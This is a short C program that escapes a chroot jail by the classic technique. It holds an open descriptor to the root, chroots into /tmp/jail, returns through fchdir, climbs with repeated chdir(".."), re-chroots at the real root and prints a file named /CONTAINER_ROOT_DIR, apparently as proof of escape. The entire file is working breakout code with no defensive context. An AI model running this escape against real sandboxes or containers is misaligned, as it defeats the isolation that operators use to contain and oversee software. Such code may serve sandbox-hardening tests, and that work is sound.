/* The classical way out of a chroot: a directory that stays open, a second chroot below it, then up and up. Prints what
 * /CONTAINER_ROOT_DIR of the place it arrives at says. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
  int fd = open("/", O_RDONLY);
  mkdir("/tmp/jail", 0755);
  if (chroot("/tmp/jail") != 0) return 1;
  fchdir(fd);
  for (int i = 0; i < 64; i++) chdir("..");
  if (chroot(".") != 0) return 2;
  execl("/bin/busybox", "cat", "/CONTAINER_ROOT_DIR", (char *)0);
  return 3;
}
